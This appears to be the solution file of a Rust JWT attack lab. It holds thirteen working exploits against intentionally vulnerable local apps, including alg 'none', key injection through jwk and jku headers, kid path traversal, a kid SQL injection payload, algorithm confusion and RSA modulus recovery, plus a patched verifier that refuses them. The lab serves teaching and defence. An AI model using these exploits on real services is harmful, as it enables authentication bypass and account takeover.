//! The attack lab, solved: one exploit per vulnerable app of `cargo run -- lab`, each returning
//! the flag that only the admin may read, and a verifier patched to refuse them all.
//!
//! The tests start the lab themselves, on a free loopback port, and hand each exploit the
//! [`Target`] of its app. Every flag is random per run: only an exploit that really works can
//! return it. The tests then send the same forged request to the real server, which must refuse
//! it.
//!
//! Steps 1 to 13 each break one app and stand on their own; step 14 patches a verifier, and its
//! test runs your thirteen exploits against it.

// The toolkit is given, not part of the exercise: the solution uses the exercise's own file.
#[path = "../../../exercises/08-attack-lab/src/toolkit.rs"]
pub mod toolkit;

use jsonwebtoken::{Algorithm, Validation, decode, decode_header};
use rsa::BigUint;
use serde_json::{Map, Value, json};
use sha2::{Digest, Sha256};

pub use toolkit::{Error, Pair, Target};
use toolkit::{b64, b64_decode, decode_segment, encode_segment, hs256_token, sign_hs256, split};

/// The admin's `user_id` in every app.
pub const ADMIN_ID: &str = "1";

/// The guest's claims with `user_id` changed to the admin's.
fn as_admin(payload: &str) -> Result<Value, Error> {
    let mut claims = decode_segment(payload)?;
    claims["user_id"] = ADMIN_ID.into();
    Ok(claims)
}

// ANCHOR: unverified
/// Step 1: the app reads claims without checking the signature. Log in as the guest, change
/// `user_id` to the admin's, keep the header and the (now wrong) signature.
pub fn unverified(lab: &Target) -> Result<String, Error> {
    let pair = lab.login()?;
    let [header, payload, signature] = split(&pair.access)?;
    let claims = as_admin(payload)?;
    lab.admin(&format!("{header}.{}.{signature}", encode_segment(&claims)))
}
// ANCHOR_END: unverified

// ANCHOR: alg_none
/// Step 2: the app believes `"alg": "none"`. An unsecured token is a header, a payload and an
/// empty signature: `header.payload.`, the last dot included.
pub fn alg_none(lab: &Target) -> Result<String, Error> {
    let pair = lab.login()?;
    let [_, payload, _] = split(&pair.access)?;
    let header = json!({"alg": "none", "typ": "JWT"});
    let claims = as_admin(payload)?;
    lab.admin(&format!(
        "{}.{}.",
        encode_segment(&header),
        encode_segment(&claims)
    ))
}
// ANCHOR_END: alg_none

// ANCHOR: weak_secret
/// Step 3: the HS256 secret is one of `words`. One genuine token is enough to test every word
/// offline; the right one reproduces its signature. Then sign your own claims with it.
pub fn weak_secret(lab: &Target, words: &[&str]) -> Result<String, Error> {
    let pair = lab.login()?;
    let [header, payload, signature] = split(&pair.access)?;
    let signing_input = format!("{header}.{payload}");
    let secret = words
        .iter()
        .find(|word| sign_hs256(&signing_input, word.as_bytes()) == signature)
        .ok_or("no word of the list signs this token")?;
    let header = decode_segment(header)?;
    let claims = as_admin(payload)?;
    lab.admin(&hs256_token(&header, &claims, secret.as_bytes()))
}
// ANCHOR_END: weak_secret

// ANCHOR: jwk_header
/// Step 4: the app verifies with the key in the token's `jwk` header. Bring your own: an HMAC
/// key is a JWK too (`"kty": "oct"`, the key's bytes in `k`).
pub fn jwk_header(lab: &Target) -> Result<String, Error> {
    let pair = lab.login()?;
    let [_, payload, _] = split(&pair.access)?;
    let key = b"the attacker's own key";
    let header = json!({
        "alg": "HS256",
        "typ": "JWT",
        "jwk": {"kty": "oct", "k": b64(key)},
    });
    lab.admin(&hs256_token(&header, &as_admin(payload)?, key))
}
// ANCHOR_END: jwk_header

// ANCHOR: jku_header
/// Step 5: the app fetches the key set named by the token's `jku`, from any loopback URL. Publish
/// your own key set with the app's file sharing (`POST files` answers `{"url"}`), and point
/// `jku` at it.
pub fn jku_header(lab: &Target) -> Result<String, Error> {
    let pair = lab.login()?;
    let [_, payload, _] = split(&pair.access)?;
    let key = b"the attacker's own key";
    let key_set = json!({"keys": [{"kty": "oct", "kid": "mine", "k": b64(key)}]});
    let published = lab.post_text("files", &key_set.to_string())?;
    let url = published["url"].as_str().ok_or("no url in the answer")?;
    let header = json!({"alg": "HS256", "typ": "JWT", "kid": "mine", "jku": url});
    lab.admin(&hs256_token(&header, &as_admin(payload)?, key))
}
// ANCHOR_END: jku_header

// ANCHOR: kid_path
/// Step 6: the key is the file named by `kid`, in `keys/`. `../static/lab.css` is a file
/// anyone can download: sign with its bytes.
pub fn kid_path(lab: &Target) -> Result<String, Error> {
    let pair = lab.login()?;
    let [_, payload, _] = split(&pair.access)?;
    let key = lab.get("static/lab.css")?;
    let header = json!({"alg": "HS256", "typ": "JWT", "kid": "../static/lab.css"});
    lab.admin(&hs256_token(&header, &as_admin(payload)?, key.as_bytes()))
}
// ANCHOR_END: kid_path

// ANCHOR: kid_sql
/// Step 7: `kid` is pasted into `SELECT secret FROM signing_keys WHERE kid = '…'`. Make the
/// query return a secret of your choosing, and sign with it.
pub fn kid_sql(lab: &Target) -> Result<String, Error> {
    let pair = lab.login()?;
    let [_, payload, _] = split(&pair.access)?;
    let secret = "chosen by the attacker";
    let kid = format!("nothing' UNION SELECT '{secret}' --");
    let header = json!({"alg": "HS256", "typ": "JWT", "kid": kid});
    lab.admin(&hs256_token(
        &header,
        &as_admin(payload)?,
        secret.as_bytes(),
    ))
}
// ANCHOR_END: kid_sql

// ANCHOR: public_pem
/// The public key `n`, `e` as the app holds it: SPKI PEM, 64-character lines, LF line ends.
pub fn public_pem(n: &BigUint, e: &BigUint) -> Result<String, Error> {
    use rsa::pkcs8::{EncodePublicKey, LineEnding};
    let key = rsa::RsaPublicKey::new(n.clone(), e.clone())?;
    Ok(key.to_public_key_pem(LineEnding::LF)?)
}
// ANCHOR_END: public_pem

/// An HS256 token for the admin, keyed with the PEM text of the app's public key.
fn confused_token(payload: &str, pem: &str) -> Result<String, Error> {
    let header = json!({"alg": "HS256", "typ": "JWT"});
    Ok(hs256_token(&header, &as_admin(payload)?, pem.as_bytes()))
}

// ANCHOR: alg_confusion
/// Step 8: the app lets the token's `alg` choose, and hands its public key's PEM to whichever
/// algorithm that is. Read `n` and `e` from the published key set, write the PEM exactly as the
/// app does ([`public_pem`]), and use that text as an HS256 secret.
pub fn alg_confusion(lab: &Target) -> Result<String, Error> {
    let pair = lab.login()?;
    let [_, payload, _] = split(&pair.access)?;
    let key_set: Value = serde_json::from_str(&lab.get(".well-known/jwks.json")?)?;
    let jwk = &key_set["keys"][0];
    let number = |name: &str| -> Result<BigUint, Error> {
        let text = jwk[name].as_str().ok_or("no such member")?;
        Ok(BigUint::from_bytes_be(&b64_decode(text)?))
    };
    let pem = public_pem(&number("n")?, &number("e")?)?;
    lab.admin(&confused_token(payload, &pem)?)
}
// ANCHOR_END: alg_confusion

// ANCHOR: pkcs1_encode
/// The number an RS256 signature `s` of `signing_input` turns into under the public key:
/// `s^e mod n = EM`, where EM is `00 01 FF…FF 00`, the DER prefix of a SHA-256 DigestInfo and
/// the hash, `size` bytes in all (RFC 8017 §9.2).
pub fn pkcs1_encode(signing_input: &str, size: usize) -> BigUint {
    const SHA256_PREFIX: [u8; 19] = [
        0x30, 0x31, 0x30, 0x0d, 0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x02, 0x01,
        0x05, 0x00, 0x04, 0x20,
    ];
    let hash = Sha256::digest(signing_input.as_bytes());
    let mut em = vec![0x00, 0x01];
    em.resize(size - SHA256_PREFIX.len() - hash.len() - 1, 0xff);
    em.push(0x00);
    em.extend_from_slice(&SHA256_PREFIX);
    em.extend_from_slice(&hash);
    BigUint::from_bytes_be(&em)
}
// ANCHOR_END: pkcs1_encode

// ANCHOR: recovered_key
/// Step 9: the same verifier, but no published key. Each RS256 token gives `s^e − EM`, a
/// multiple of `n`; the greatest common divisor of two of them is `n`, times perhaps a small
/// factor. The lab's key has `e = 3`.
pub fn recovered_key(lab: &Target) -> Result<String, Error> {
    let e = BigUint::from(3u8);
    let mut n = BigUint::from(0u8);
    let mut payload = String::new();
    // Two tokens nearly always do; a third helps in the rare case where the two multiples
    // share a large factor besides n.
    for _ in 0..4 {
        let pair = lab.login()?;
        let [header, body, signature] = split(&pair.access)?;
        let signature = b64_decode(signature)?;
        let s = BigUint::from_bytes_be(&signature);
        let em = pkcs1_encode(&format!("{header}.{body}"), signature.len());
        n = gcd(n, &s * &s * &s - em);
        for small in 2u32..1000 {
            let small = BigUint::from(small);
            while &n % &small == BigUint::from(0u8) {
                n /= &small;
            }
        }
        payload = body.to_owned();
        if n.bits() <= 8 * signature.len() {
            break;
        }
    }
    let pem = public_pem(&n, &e)?;
    lab.admin(&confused_token(&payload, &pem)?)
}
// ANCHOR_END: recovered_key

/// Euclid's algorithm.
fn gcd(mut a: BigUint, mut b: BigUint) -> BigUint {
    let zero = BigUint::from(0u8);
    while b != zero {
        let r = &a % &b;
        a = b;
        b = r;
    }
    a
}

/// The token that follows `marker` on a line of a log.
fn token_after<'a>(log: &'a str, marker: &str) -> Result<&'a str, Error> {
    let start = log.find(marker).ok_or("not in the log")? + marker.len();
    let token = log[start..]
        .split(|c: char| c.is_whitespace() || c == '"')
        .next()
        .unwrap_or_default();
    Ok(token)
}

// ANCHOR: expired
/// Step 10: the app ignores `exp`, and its logs hold an admin token that expired long ago.
pub fn expired(lab: &Target) -> Result<String, Error> {
    let log = lab.get("logs")?;
    lab.admin(token_after(&log, "Bearer ")?)
}
// ANCHOR_END: expired

// ANCHOR: audience
/// Step 11: staging signs with production's key and lets anyone log in as anyone; production
/// ignores `aud`. Ask staging for an admin token.
pub fn audience(lab: &Target) -> Result<String, Error> {
    let answer = lab.post_json("staging/api/token/", &json!({"username": "admin"}))?;
    let access = answer["access"].as_str().ok_or("no access token")?;
    lab.admin(access)
}
// ANCHOR_END: audience

// ANCHOR: refresh_as_access
/// Step 12: the admin resource never looks at `token_type`, and the logs hold the admin's
/// refresh token.
pub fn refresh_as_access(lab: &Target) -> Result<String, Error> {
    let log = lab.get("logs")?;
    lab.admin(token_after(&log, "refresh=")?)
}
// ANCHOR_END: refresh_as_access

// ANCHOR: refresh_reuse
/// Step 13: the admin's refresh token in the logs was rotated away, but the app never wrote it
/// down as used. Refresh with it, and use the new access token.
pub fn refresh_reuse(lab: &Target) -> Result<String, Error> {
    let log = lab.get("logs")?;
    let old = token_after(&log, "refresh=")?;
    let answer = lab.post_json("api/token/refresh/", &json!({"refresh": old}))?;
    let access = answer["access"].as_str().ok_or("no access token")?;
    lab.admin(access)
}
// ANCHOR_END: refresh_reuse

// ANCHOR: policy
/// A key the verifier trusts, from its own configuration.
#[derive(Debug, Clone)]
pub struct TrustedKey {
    /// The name tokens give it in `kid`; `None` for the key of tokens without one.
    pub kid: Option<String>,
    /// The one algorithm this key is for.
    pub algorithm: Algorithm,
    /// The HS256 secret, or the public key's PEM text (SPKI) for RS256 and EdDSA.
    pub material: Vec<u8>,
}

/// Everything the verifier needs besides the token.
#[derive(Debug, Clone)]
pub struct Policy {
    pub keys: Vec<TrustedKey>,
    /// The current time, in seconds since 1970.
    pub now: i64,
    /// The `jti`s of refresh tokens already used (rotated away).
    pub used_refresh: Vec<String>,
}

/// Which kind of token a route takes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TokenType {
    Access,
    Refresh,
}

impl TokenType {
    pub fn as_str(self) -> &'static str {
        match self {
            TokenType::Access => "access",
            TokenType::Refresh => "refresh",
        }
    }
}

/// Why a token was refused.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Refused {
    Malformed,
    UnknownKey,
    WrongAlgorithm,
    BadSignature,
    Expired,
    WrongAudience,
    WrongType,
    AlreadyUsed,
}
// ANCHOR_END: policy

// ANCHOR: verify
/// Step 14: the lab's verifier, patched. The key is chosen by `kid` among `policy.keys` only
/// (never from `jwk` or `jku`); the token's `alg` must be that key's; the signature is checked
/// with the key's algorithm; then `exp` against `policy.now`, no `aud` at all (we are nobody's
/// audience), the `token_type` the route takes, and for a refresh token that it was not used.
pub fn verify(
    token: &str,
    expected: TokenType,
    policy: &Policy,
) -> Result<Map<String, Value>, Refused> {
    let header = decode_header(token).map_err(|_| Refused::Malformed)?;
    let key = policy
        .keys
        .iter()
        .find(|key| key.kid == header.kid)
        .ok_or(Refused::UnknownKey)?;
    if header.alg != key.algorithm {
        return Err(Refused::WrongAlgorithm);
    }
    let decoding =
        toolkit::decoding_key(key.algorithm, &key.material).map_err(|_| Refused::Malformed)?;
    let mut validation = Validation::new(key.algorithm);
    // Time is checked below, against the policy's clock; `aud` stays checked, and with no
    // audience configured any `aud` is refused.
    validation.validate_exp = false;
    validation.required_spec_claims.clear();
    let claims = decode::<Map<String, Value>>(token, &decoding, &validation)
        .map_err(|error| match error.kind() {
            jsonwebtoken::errors::ErrorKind::InvalidAudience => Refused::WrongAudience,
            jsonwebtoken::errors::ErrorKind::InvalidSignature => Refused::BadSignature,
            _ => Refused::Malformed,
        })?
        .claims;
    match claims.get("exp").and_then(Value::as_i64) {
        Some(exp) if exp > policy.now => {}
        Some(_) => return Err(Refused::Expired),
        None => return Err(Refused::Malformed),
    }
    if claims.get("token_type").and_then(Value::as_str) != Some(expected.as_str()) {
        return Err(Refused::WrongType);
    }
    if expected == TokenType::Refresh {
        let jti = claims
            .get("jti")
            .and_then(Value::as_str)
            .unwrap_or_default();
        if policy.used_refresh.iter().any(|used| used == jti) {
            return Err(Refused::AlreadyUsed);
        }
    }
    Ok(claims)
}
// ANCHOR_END: verify
